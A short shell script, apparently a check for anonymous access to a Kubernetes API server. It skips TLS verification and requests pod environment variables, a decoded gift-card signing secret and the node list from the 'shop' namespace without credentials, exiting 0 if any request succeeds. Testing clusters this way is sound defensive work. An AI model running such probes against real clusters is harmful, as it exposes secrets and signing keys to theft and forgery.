# A stranger with nothing but the address. Exit 0: he read something of the shop.
won=no
ask() { curl -sSfk "https://$APISERVER$1"; }

echo "the environment of the shop's pods:"
if pods=$(ask /api/v1/namespaces/shop/pods); then
  echo "$pods" | jq -r '.items[].spec.containers[].env[]? | .name + "=" + .value'
  won=yes
fi

echo "the key that gift cards are signed with:"
if secret=$(ask /api/v1/namespaces/shop/secrets/gift-card-signing); then
  echo "$secret" | jq -r '.data.key | @base64d'
  won=yes
fi

echo "the nodes:"
if ask /api/v1/nodes | jq -r '.items[].metadata.name' | grep .; then
  won=yes
fi

[ "$won" = yes ]
